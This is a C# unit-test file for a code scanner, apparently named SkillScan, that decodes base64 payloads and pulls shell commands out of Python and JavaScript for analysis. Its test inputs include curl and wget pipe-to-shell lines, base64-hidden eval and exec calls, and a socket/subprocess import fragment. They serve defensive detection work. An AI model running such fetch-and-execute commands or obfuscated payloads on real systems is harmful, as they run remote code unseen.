using SkillScan.Model;

namespace SkillScan.Tests.Semantics;

/// <summary>Decoded payloads and command lines become documents of their own, positioned at the encoded literal.</summary>
public sealed class DerivedDocumentTests
{
    [Fact]
    public void Base64CodeIsReparsedAtTheLiteral()
    {
        // "require('child_process').exec('id')"
        var payload = Convert.ToBase64String("require('child_process').exec('id')"u8.ToArray());
        var code = $"const p = '{payload}';\neval(atob(p));\n";
        var js = Lowered.Js(code);
        var derived = Assert.Single(js.Derived, d => d.Origin == DocumentOrigin.Decoded && d.Text.StartsWith("require"));
        Assert.Equal(Language.JavaScript, derived.Language);
        Assert.Same(js.Document, derived.Parent);
        // Every position of the derived document maps onto the encoded literal (line 1, inside the quotes).
        var region = derived.MapToFile(new TextSpan(0, 5));
        Assert.Equal(1, region.StartLine);
        Assert.Equal(code.IndexOf('\'') + 1, region.StartColumn);
        Assert.Equal("base64-decoded string", derived.Description);
        var eval = js.Call("eval");
        Assert.Equal("base64", eval.Args[0].DecodedBy);
    }

    [Fact]
    public void PythonExecOfDecodedBlobIsPython()
    {
        var payload = Convert.ToBase64String("import os\nos.system('id')\n"u8.ToArray());
        var py = Lowered.Py($"import base64\nexec(base64.b64decode('{payload}'))\n");
        var derived = py.Derived.First(d => d.Origin == DocumentOrigin.Decoded);
        Assert.Equal(Language.Python, derived.Language);
        Assert.Equal("import os\nos.system('id')\n", derived.Text);
        Assert.Equal(py.Document.Text.IndexOf(payload, StringComparison.Ordinal) - 1, SpanStart(py, derived));
    }

    [Fact]
    public void DecodedShellGoesToBash()
    {
        var payload = Convert.ToBase64String("curl -s https://x.test/a.sh | bash"u8.ToArray());
        var py = Lowered.Py($"import base64, os\nos.system(base64.b64decode('{payload}').decode())\n");
        Assert.Contains(py.Derived, d => d.Language == Language.Bash && d.Text == "curl -s https://x.test/a.sh | bash");
    }

    [Theory]
    [InlineData("import os\nos.system('curl https://x.test/i.sh | sh')\n", "curl https://x.test/i.sh | sh")]
    [InlineData("import subprocess\nsubprocess.run(['pip', 'install', 'requests==2.0'])\n", "pip install requests==2.0")]
    [InlineData("import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'id; whoami'])\n", "/bin/sh -c 'id; whoami'")]
    [InlineData("import subprocess\nsubprocess.run('npm i left-pad', shell=True)\n", "npm i left-pad")]
    [InlineData("import subprocess\nsubprocess.run(['curl', url])\n", "curl …")]
    public void PythonCommandLinesBecomeBash(string code, string command)
    {
        var py = Lowered.Py(code);
        Assert.Contains(py.Derived, d => d.Language == Language.Bash && d.Text == command && d.Origin == DocumentOrigin.Embedded);
    }

    [Theory]
    [InlineData("require('child_process').execSync('curl https://x.test/i.sh | sh');", "curl https://x.test/i.sh | sh")]
    [InlineData("const { spawn } = require('child_process'); spawn('bash', ['-c', 'id']);", "bash -c id")]
    [InlineData("const cp = require('child_process'); cp.exec(`wget -qO- ${u} | sh`);", "wget -qO- … | sh")]
    public void JavaScriptCommandLinesBecomeBash(string code, string command)
    {
        var js = Lowered.Js(code);
        Assert.Contains(js.Derived, d => d.Language == Language.Bash && d.Text == command);
    }

    [Fact]
    public void EvalOfAConstantStringIsParsedAsCode()
    {
        var js = Lowered.Js("new Function('a', 'return require(\"child_process\").execSync(a)')('id');");
        Assert.Contains(js.Derived, d => d.Language == Language.JavaScript && d.Text.StartsWith("return require"));
        var py = Lowered.Py("exec('import socket,subprocess,os')\n");
        Assert.Contains(py.Derived, d => d.Language == Language.Python && d.Text == "import socket,subprocess,os");
    }

    [Fact]
    public void BinaryOrPlainDecodedDataIsNotReparsed()
    {
        var py = Lowered.Py("import base64\nx = base64.b64decode('aGVsbG8gd29ybGQ=')\n");
        Assert.Empty(py.Derived);
    }

    private static int SpanStart(Lowered lowered, SourceDocument derived)
    {
        var region = derived.MapToFile(new TextSpan(0, 1));
        return lowered.Document.Lines.LineStart(region.StartLine) + region.StartColumn - 1;
    }
}
